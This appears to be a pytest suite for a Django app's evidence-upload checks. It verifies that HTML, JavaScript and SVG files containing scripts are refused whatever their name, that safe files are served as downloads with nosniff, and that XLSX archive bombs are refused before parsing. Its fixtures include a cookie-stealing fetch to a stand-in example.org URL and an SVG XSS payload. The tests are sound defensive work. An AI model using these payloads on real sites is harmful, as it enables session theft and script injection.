"""Measurement evidence: accepted by content only, stored and served as what it is, never as a page
or a script; archive bombs refused before they are opened."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from indicators.models import Measurement
from tests.indicators.factories import IndicatorYearFactory, open_period
from tests.zip_bombs import REFUSED_BEFORE_PARSING, Inflated, empty_rows_bomb, shared_string_bomb

pytestmark = pytest.mark.date_sensitive

HTML_PAGE = b"<!DOCTYPE html><html><body><h1>Informe</h1><script>fetch('/cuenta/')</script></body></html>"
SCRIPT = b"const token = document.cookie;\nfetch('https://example.org/?c=' + token);\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
PLAIN_CSV = b"Mes;Reclamos;Resueltos\nenero;120;118\nfebrero;98;97\n"


@pytest.fixture
def liaison(user_factory):
    return user_factory("enlace", "aseo", username="camila")


def _enter(client, liaison, name, content):
    iy = IndicatorYearFactory()
    client.force_login(liaison)
    page = reverse("indicators:measurement-enter", args=[iy.pk, open_period().pk])
    return client.post(page, {"value": "90", "comment": "Dato", "evidence": SimpleUploadedFile(name, content)})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("x.html", HTML_PAGE),
        ("x.js", SCRIPT),
        ("grafico.svg", SVG),
        ("informe.pdf", HTML_PAGE),
        ("datos.csv", HTML_PAGE),
    ],
)
def test_pages_and_scripts_are_refused_as_evidence_whatever_their_name(client, directorates, liaison, name, content):
    response = _enter(client, liaison, name, content)
    assert response.status_code == 200
    assert "contiene una página web o código" in response.content.decode()
    assert not Measurement.objects.exists()


def test_a_plain_csv_named_js_is_stored_as_csv_and_downloaded_as_a_csv_attachment(client, directorates, liaison):
    response = _enter(client, liaison, "x.js", PLAIN_CSV)
    assert response.status_code == 302
    measurement = Measurement.objects.get()
    assert measurement.evidence.name.endswith(".csv")
    download = client.get(reverse("indicators:measurement-evidence", args=[measurement.pk]))
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download["Content-Disposition"].startswith("attachment;")
    assert 'filename="medio-verificacion-' in download["Content-Disposition"]
    assert download["Content-Disposition"].endswith('.csv"')
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == PLAIN_CSV


def test_a_pdf_named_otherwise_is_stored_and_served_as_pdf(client, directorates, liaison):
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    assert _enter(client, liaison, "respaldo.html", pdf).status_code == 302
    measurement = Measurement.objects.get()
    assert measurement.evidence.name.endswith(".pdf")
    download = client.get(reverse("indicators:measurement-evidence", args=[measurement.pk]))
    assert download["Content-Type"] == "application/pdf"


def test_evidence_stored_before_the_checks_is_served_as_a_download_never_as_a_page(client, directorates, liaison):
    """A file left by the old code (an HTML page under .html) is served as bytes to download."""
    from django.core.files.base import ContentFile

    from tests.indicators.factories import measurement

    iy = IndicatorYearFactory()
    m = measurement(iy, open_period(), value="91", status="draft", by=liaison)
    m.evidence.save("legado.html", ContentFile(HTML_PAGE), save=True)
    client.force_login(liaison)
    download = client.get(reverse("indicators:measurement-evidence", args=[m.pk]))
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"].startswith("attachment;") and '.bin"' in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("bomb", [empty_rows_bomb, shared_string_bomb], ids=["30M-empty-rows", "400MB-string"])
def test_an_xlsx_bomb_is_refused_as_evidence_before_it_is_parsed(client, directorates, liaison, bomb, monkeypatch):
    data = bomb()
    inflated = Inflated(monkeypatch)
    response = _enter(client, liaison, "respaldo.xlsx", data)
    assert response.status_code == 200
    assert "no se procesa por seguridad" in response.content.decode()
    assert inflated.bytes < REFUSED_BEFORE_PARSING
    assert not Measurement.objects.exists()


@pytest.mark.parametrize(
    "text",
    [
        "Export total;Import 2026\n12;5\n",
        "Respaldo;Archivo\nActa;Ver document.pdf\n",
        "Tramo;Valor\n0<x<5;1.843\n",
        "Función;Meta\nLet it be;90\n",
    ],
)
def test_ordinary_tables_that_mention_code_words_are_still_accepted(text):
    from gabinete.uploads import CSV, FileKindValidator

    upload = SimpleUploadedFile("datos.csv", text.encode())
    FileKindValidator(CSV)(upload)
    assert upload.name == "datos.csv"


def test_a_download_name_keeps_a_title_with_slashes_and_dots_and_takes_the_contents_extension(db):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    from gabinete.uploads import protected_file_response

    name = default_storage.save("tests/acta.bin", ContentFile(b"%PDF-1.4\n%%EOF\n"))
    response = protected_file_response(default_storage.open(name), "Acta N° 5. Sesión 2026/03.html", inline=True)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == "inline; filename*=utf-8''Acta_N_5._Sesi%C3%B3n_202603.pdf"
    default_storage.delete(name)
